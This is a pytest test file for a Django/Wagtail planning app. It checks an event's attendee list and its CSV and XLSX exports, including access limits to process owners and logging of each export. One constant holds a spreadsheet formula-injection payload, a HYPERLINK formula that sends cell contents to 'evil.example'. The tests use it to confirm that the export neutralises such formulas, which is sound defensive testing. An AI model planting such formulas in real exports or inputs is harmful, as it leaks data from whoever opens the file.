"""The attendee list of an event in the admin: the counts, the CSV and XLSX read
back with the csv module and openpyxl (formulas neutralised), process owners only."""

import csv
import io
import re

import openpyxl
import pytest
from django.urls import reverse
from django.utils import translation
from wagtail.log_actions import registry
from wagtail.models import PageLogEntry

from conftest import staff_member
from mitplan.events import services
from mitplan.events.models import Registration
from mitplan.processes.roles import EXPERT_GROUPS, PROCESS_OWNERS

from .factories import event_build, process_open_for_events

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("https://evil.example/?"&A1)'


def in_english(user):
    """The admin speaks the account's chosen language: English for the tests."""
    from wagtail.users.models import UserProfile

    profile = UserProfile.get_for_user(user)
    profile.preferred_language = "en"
    profile.save()
    return user


def register(event, email, *, confirm=True, needs=""):
    registration = services.registration_request(
        event=event, name=email.split("@")[0], email=email, needs=needs, language="de"
    )
    if confirm:
        return services.registration_confirm(token=services.confirm_token(registration))
    return registration


@pytest.fixture
def event(process):
    event = event_build(process_open_for_events(process), capacity=1)
    register(event, "erika@example.org", needs=FORMULA)
    register(event, "ahmad@example.org", needs="Dolmetschen ins Arabische")
    register(event, "pending@example.org", confirm=False)
    cancelled = register(event, "weg@example.org")
    Registration.objects.filter(pk=cancelled.pk).update(
        status=Registration.Status.CANCELLED
    )
    return event


def test_the_log_action_is_registered():
    registry.scan_for_actions()
    assert registry.action_exists("mitplan.event.attendees_exported")


def test_an_owner_sees_the_counts_and_the_confirmed_and_waiting_people(client, event):
    client.force_login(in_english(staff_member("amt", PROCESS_OWNERS)))
    with translation.override("en"):
        response = client.get(reverse("events_attendees", args=[event.pk]))
    assert response.status_code == 200
    seats = response.context["seats"]
    assert (seats.confirmed, seats.waiting, seats.cancelled, seats.pending) == (
        1,
        1,
        1,
        1,
    )
    page = response.content.decode()
    assert "erika@example.org" in page and "ahmad@example.org" in page
    assert "pending@example.org" not in page and "weg@example.org" not in page


def test_the_event_page_in_the_admin_links_to_its_attendees(client, event):
    from django.contrib.auth import get_user_model

    client.force_login(
        get_user_model().objects.create_superuser("admin", password="x" * 12)
    )
    response = client.get(reverse("wagtailadmin_pages:edit", args=[event.pk]))
    assert reverse("events_attendees", args=[event.pk]) in response.content.decode()


def test_the_csv_lists_confirmed_then_waiting_with_needs_and_no_formula(client, event):
    owner = in_english(staff_member("amt", PROCESS_OWNERS))
    client.force_login(owner)
    with translation.override("en"):
        response = client.get(
            reverse("events_attendees_export", args=[event.pk, "csv"])
        )
    assert response.status_code == 200
    assert response["Content-Disposition"].endswith('.csv"')
    body = b"".join(response.streaming_content).decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(body)))
    assert [(r["Status"], r["E-mail address"]) for r in rows] == [
        ("Confirmed", "erika@example.org"),
        ("On the waiting list", "ahmad@example.org"),
    ]
    assert rows[0]["Needs"] == "'" + FORMULA
    assert rows[1]["Needs"] == "Dolmetschen ins Arabische"
    # Named for staff: the language by name, times to the minute on the city's clock.
    assert rows[0]["Language"] == "German"
    assert re.fullmatch(r"\d{4}-\d\d-\d\d \d\d:\d\d:00", rows[0]["Registered at"])
    entry = PageLogEntry.objects.get(action="mitplan.event.attendees_exported")
    assert entry.user_id == owner.pk and entry.data == {"format": "csv", "rows": 2}


def test_the_xlsx_reads_back_with_a_header_and_neutralised_needs(client, event):
    client.force_login(in_english(staff_member("amt", PROCESS_OWNERS)))
    with translation.override("en"):
        response = client.get(
            reverse("events_attendees_export", args=[event.pk, "xlsx"])
        )
    assert response.status_code == 200
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    rows = list(sheet.iter_rows(values_only=True))
    assert rows[0][:4] == ("Status", "Name", "E-mail address", "Needs")
    assert [row[2] for row in rows[1:]] == ["erika@example.org", "ahmad@example.org"]
    assert rows[1][3] == "'" + FORMULA
    assert rows[1][6] is not None  # confirmed at, a typed date


def test_an_unknown_format_is_not_found(client, event):
    client.force_login(staff_member("amt", PROCESS_OWNERS))
    url = reverse("events_attendees_export", args=[event.pk, "pdf"])
    assert client.get(url).status_code == 404


def test_other_staff_are_refused_and_nothing_is_logged(client, event):
    client.force_login(staff_member("fachgruppe", EXPERT_GROUPS))
    for url in (
        reverse("events_attendees", args=[event.pk]),
        reverse("events_attendees_export", args=[event.pk, "csv"]),
        reverse("events_attendees_export", args=[event.pk, "xlsx"]),
    ):
        response = client.get(url)
        assert response.status_code == 403
        assert "Content-Disposition" not in response
    edit = client.get(reverse("wagtailadmin_pages:edit", args=[event.pk]))
    assert reverse("events_attendees", args=[event.pk]) not in edit.content.decode()
    assert not PageLogEntry.objects.filter(
        action="mitplan.event.attendees_exported"
    ).exists()


def test_a_resident_is_sent_to_the_sign_in(client, event):
    from django.contrib.auth import get_user_model

    resident = get_user_model().objects.create_user("anwohnerin", password="x" * 12)
    client.force_login(resident)
    response = client.get(reverse("events_attendees_export", args=[event.pk, "csv"]))
    assert response.status_code == 302
    assert "Content-Disposition" not in response
